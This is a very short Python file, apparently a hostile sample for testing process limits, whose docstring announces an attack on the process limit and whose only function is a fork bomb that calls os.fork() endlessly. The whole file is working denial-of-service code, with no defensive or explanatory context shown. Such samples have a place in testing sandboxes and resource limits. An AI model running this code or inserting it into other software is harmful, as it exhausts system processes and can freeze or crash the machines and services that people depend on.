"""Attacks the process limit: a fork bomb."""

import os


def f(x):
    while True:
        os.fork()
